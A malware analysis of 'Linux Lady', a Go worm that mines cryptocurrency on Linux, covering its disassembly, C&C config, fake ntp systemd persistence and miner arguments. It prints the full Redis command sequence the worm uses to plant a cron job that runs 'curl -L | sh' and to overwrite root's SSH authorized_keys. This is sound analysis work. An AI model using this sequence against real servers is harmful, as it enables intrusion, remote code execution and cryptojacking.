Linux Lady Malware.

Linux Lady


Linux Lady is a malware written in Go for Linux platforms. Surprisingly enough, it’s objective is not to build a DDoS botnet. Instead, it is designed to be monetized by mining cryptocurrencies.

The analyzed sample was built for x86_64, statically linked, and stripped:[0x00460580]> i
type     EXEC (Executable file)
file     9ad4559180670c8d60d4036a865a30b41b5d81b51c4df281168cb6af69618405
fd       8
size     0x80da00
iorw     false
blksz    0x0
mode     -r--
block    0x100
format   elf64
havecode truepic      false
canary   false
nx       true
crypto   false
va       true
bintype  elf
class    ELF64
lang     c
arch     x86
bits     64
machine  AMD x86-64 architecture
os       linux
minopsz  1
maxopsz  16
pcalign  0
subsys   linux
endian   little
stripped truestatic   true
linenum  false
lsyms    false
relocs   false
rpath    NONE
binsz    8592384


Glancing to the main function of the malware, it is easy to observe that the binary offer different funcionalities depending on the flags provided:


Expects an integer as a parameter, and checks if there’s any process with that number as Pid runinng on the machine.Prints the version of the malware


Installs the malware to the target system. First, it checks if the current path to the executable is /usr/sbin/ntp. If that is not the case, the malware will copy itself to that path. Then, the persistence is obtained by creating an init.d or systemd service file. As an example, the latter would be /etc/systemd/system/ntp.service with the following contents:

Description=NTP daemon
ExecStart=/usr/sbin/ntp "-D"

When that isdone, it just restarts the service by running systemd ntp.service restart


It is the payloads function, in which several payloads are handled. A goroutine is created of each of the payloads, and the communication between the main process and them is done via channels.

[0x00401870]> pd 18 @ 0x00401904
|           0x00401904      488d05058865.  lea rax, 0x00a5a110         ; 0xa5a110
|           0x0040190b      4889442408     mov qword [rsp + local_8h], rax
|           0x00401910      e85b560300     call runtime.newproc
|           0x00401915      488d1d246f3f.  lea rbx, 0x007f8840         ; 0x7f8840 ; chan st.Minerd
|           0x0040191c      48891c24       mov qword [rsp], rbx
|           0x00401920      48c74424083c.  mov qword [rsp + local_8h], 0x3c ; [0x3c:8]=0x60006000b ; '<'
|           0x00401929      e8d2520000     call runtime.makechan
|           0x0040192e      488b442410     mov rax, qword [rsp + local_10h] ; [0x10:8]=0x1003e0002
|           0x00401933      488984249800.  mov qword [rsp + local_98h], rax
|           0x0040193b      4889442410     mov qword [rsp + local_10h], rax
|           0x00401940      c70424080000.  mov dword [rsp], 8
|           0x00401947      488d05fa8765.  lea rax, 0x00a5a148         ; 0xa5a148
|           0x0040194e      4889442408     movqword [rsp + local_8h], rax
|           0x00401953      e818560300     call runtime.newproc
|           0x00401958      488d1da16f3f.  lea rbx, 0x007f8900         ; 0x7f8900 ; chan st.Update
|           0x0040195f      48891c24       mov qword [rsp], rbx
|           0x00401963      48c74424083c.  mov qword [rsp + local_8h], 0x3c ; [0x3c:8]=0x60006000b ; '<'
|           0x0040196c      e88f520000     call runtime.makechan
|           0x00401971      488b442410     mov rax, qword [rsp + local_10h] ; [0x10:8]=0x1003e0002
|           0x00401976      488984249000.  mov qword [rsp + local_90h], rax

While the goroutines are being executed concurrently, the payloads function obtain information about the system where it is running. For this purpose it is using a public Go package called gopsutil. The following struct shows the information being retrieved:

type InfoStat struct {
    Hostname             string `json:"hostname"`
    Uptime               uint64 `json:"uptime"`
    BootTime             uint64 `json:"bootTime"`
    Procs                uint64 `json:"procs"`           // number of processes
    OS                   string `json:"os"`              // ex: freebsd, linux
    Platform             string `json:"platform"`        // ex: ubuntu, linuxmint
    PlatformFamily       string `json:"platformFamily"`  // ex: debian, rhel
    PlatformVersion      string `json:"platformVersion"` //version of the complete OS
    KernelVersion        string `json:"kernelVersion"`   // version of the OS kernel (if available)
    VirtualizationSystem string `json:"virtualizationSystem"`
    VirtualizationRole   string `json:"virtualizationRole"` // guest or host
    HostID               string `json:"hostid"`             // ex: uuid

This information is then sent to the C&C server via GET request. This GET request is also used to download the configuration, which is in toml format:
# IP = ""
DelaySecond = 300

Version = 51
Url = ""Method = "Redis"
Work = true
Max = 1
ShellUrl= ""

Url = ""
Cmds = [
    "-B -a cryptonight -o stratum+tcp:// -u 48vKMSzWMF8TCV...vQMinrKeQ1vuxD4RTmiYmCwY4inWmvCXWbcJHL3JDwp -p x",
    "-B -a cryptonight -o stratum+tcp:// -u 48vKMSzWMF8TC...vQMinrKeQ1vuxD4RTmiYmCwY4inWmvCXWbcJHL3JDwp -p x",

    "-B -a cryptonight -o stratum+tcp:// -u 47TS1NQvebb3...UA8EUaiuLiGa6wYtv5aoR8BmjYsDmTx9DQbfRX -p x",
    "-B -a cryptonight -o stratum+tcp:// -u 47TS1NQvebb3...UA8EUaiuLiGa6wYtv5aoR8BmjYsDmTx9DQbfRX -p x",

    "-B -a cryptonight -o stratum+tcp:// -u 448J3JccPv4D8X...HqNeLK8LguDFpJtcFJ6ZWr1NAbuEVmHEz5JftEox -p x",
    "-B -a cryptonight -o stratum+tcp:// -u 448J3JccPv4D8X...HqNeLK8LguDFpJtcFJ6ZWr1NAbuEVmHEz5JftEox -p x",

Url = ""
Pattern = '\b(([0-9]|[1-9][0-9]|1[0-9]{2}|2[0-4][0-9]|25[0-5])\.){3}([0-9]|[1-9][0-9]|1[0-9]{2}|2[0-4][0-9]|25[0-5])\b'
UserAgent = "curl/7.38.0"

Url = ""
Pattern = '\b(([0-9]|[1-9][0-9]|1[0-9]{2}|2[0-4][0-9]|25[0-5])\.){3}([0-9]|[1-9][0-9]|1[0-9]{2}|2[0-4][0-9]|25[0-5])\b'
UserAgent = "curl/7.38.0"

Url = ""
Pattern = '\b(([0-9]|[1-9][0-9]|1[0-9]{2}|2[0-4][0-9]|25[0-5])\.){3}([0-9]|[1-9][0-9]|1[0-9]{2}|2[0-4][0-9]|25[0-5])\b'
UserAgent = "curl/7.38.0"

Url = ""
Pattern = '\b(([0-9]|[1-9][0-9]|1[0-9]{2}|2[0-4][0-9]|25[0-5])\.){3}([0-9]|[1-9][0-9]|1[0-9]{2}|2[0-4][0-9]|25[0-5])\b'
UserAgent = "curl/7.38.0"

The configuration file contains information for all the payload goroutines, and each piece will be sent to the corresponding goroutine via their respective channels.This goroutine is in charge of obtaining the external IP address of the infected machine. It will chose one of the sites specified in the configuration file, do a GET request with acurl UserAgent, and retrieve the IP address.


This goroutine is in charge of updating the malware binary. It would download it from the URL provided in the config file, write it to disk at /usr/sbin/ntp, and restart the ntp.service service.


The attack goroutine handles the propagation of the malware. To do so, it is using a known attack against redis servers exposed to the Internet, which we will explain in a few lines. The target selection is done randomly, by generating IPs based on the first quad of the infected machine’s external IP.

[0x00401870]> pd 38 @ 0x4627f5
|           ; JMP XREF from 0x00462b47 (attack.Attack.func2)
|           0x004627f5      488b1d3cb27a.  mov rbx, qword [0x00c0da38] ; [0xc0da38:8]=-1
|           0x004627fc      48891c24       mov qword [rsp], rbx
|           0x00462800      488bb4241801.  mov rsi, qword [rsp + local_118h] ; [0x118:8]=0x1000
|           0x00462808      488d7c2408     lea rdi, [rsp + local_8h]   ; 0x8
|           0x0046280d      488b0e         mov rcx, qword [rsi]
|           0x00462810      48890f         mov qword [rdi], rcx
|           0x00462813      488b4e08       mov rcx, qword [rsi + 8]    ; [0x8:8]=0
|           0x00462817      48894f08       mov qword [rdi + 8], rcx|           0x0046281b      e8d0520400     call regexp.__Regexp_.FindString
|           0x00462820      488b5c2418     mov rbx, qword [rsp + local_18h] ; [0x18:8]=0x460580 _rt0_amd64_linux
|           0x00462825      48895c2460     mov qword [rsp + local_60h], rbx
|           0x0046282a      488b5c2420     mov rbx, qword [rsp + local_20h] ; [0x20:8]=64 ; "@" 0x00000020  ; "@"
|           0x0046282f      48895c2468     mov qword [rsp + local_68h], rbx
|           0x00462834      48c704240001.  mov qword [rsp], 0x100      ; [0x100:8]=0xbe1000 section.LOAD2
|           0x0046283c      e83f870200     call math_rand.Intn
|           0x00462841      488b5c2408     mov rbx, qword [rsp + local_8h] ; [0x8:8]=0
|           0x00462846      48895c2448     mov qword [rsp + local_48h], rbx
|           0x0046284b      48c704240001.  mov qword [rsp], 0x100      ; [0x100:8]=0xbe1000 section.LOAD2
|           0x00462853      e828870200     call math_rand.Intn
|           0x00462858      488b5c2408     mov rbx, qword [rsp + local_8h] ; [0x8:8]=0
|           0x0046285d      48895c2440     mov qword [rsp + local_40h], rbx
|           0x00462862      48c70424fe00.  mov qword [rsp], 0xfe       ; [0xfe:8]=0xbe10000000
|           0x0046286a      e811870200     call math_rand.Intn
|           0x0046286f      488b5c2408     mov rbx, qword [rsp + local_8h] ; [0x8:8]=0
|           0x00462874      48ffc3         inc rbx
|           0x00462877      48895c2438     mov qword [rsp + local_38h], rbx
|           0x0046287c      31db           xor ebx, ebx
|           0x0046287e      48899c24c800.  mov qword [rsp + local_c8h], rbx
|           0x00462886      48899c24d000.  mov qword [rsp + local_d0h], rbx
|           0x0046288e      48899c24d800.  mov qword [rsp + local_d8h], rbx
|           0x00462896      48899c24e000.  mov qword [rsp + local_e0h], rbx|           0x0046289e48899c24e800.  mov qword [rsp + local_e8h], rbx
|           0x004628a6      48899c24f000.  mov qword [rsp + local_f0h], rbx
|           0x004628ae      48899c24f800.  mov qword [rsp + local_f8h], rbx
|           0x004628b6      48899c240001.  mov qword [rsp + local_100h], rbx
|           0x004628be      488d9c24c800.  lea rbx, [rsp + local_c8h]  ; 0xc8
|           0x004628c6      4883fb00       cmp rbx, 0
|           0x004628ca      0f84e0020000   je 0x462bb0

Then, the malware tries to connect to the generated IP at the common Redis port (6379) and issue the following commands:

1. config set stop-writes-on-bgsave-error no
2. config set rdbcompression no
3. config set dir /var/spool/cron
4. config set dbfilename root
5. set 1 "*/1 * * * * curl -L | sh"
6. save
7. config set dir /root/.ssh/
8. config set dbfilename authorized_keys9. set 1 "ssh_pub_key_here"
10. save
11. del 1
12. config set dir /tmp
13. config set dbfilename dump.rdb
14. config set rdbcompression yest

The above commands will create 2 files on the target machine: /var/spool/cron/root and /root/.ssh/. The first one will contain the crontab syntax that will make the following command to be run every minute: curl -L | sh

